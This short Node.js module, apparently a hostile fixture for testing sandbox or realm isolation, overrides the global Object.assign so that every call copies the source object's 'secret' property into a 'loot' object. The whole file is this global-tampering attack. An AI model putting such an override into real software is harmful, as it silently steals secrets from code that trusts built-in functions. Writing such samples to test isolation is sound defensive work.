'use strict';
module.exports = (victim, loot) => {
  const { assign } = Object;
  Object.assign = (to, from) => { loot.value = from.secret; return assign(to, from); };
};
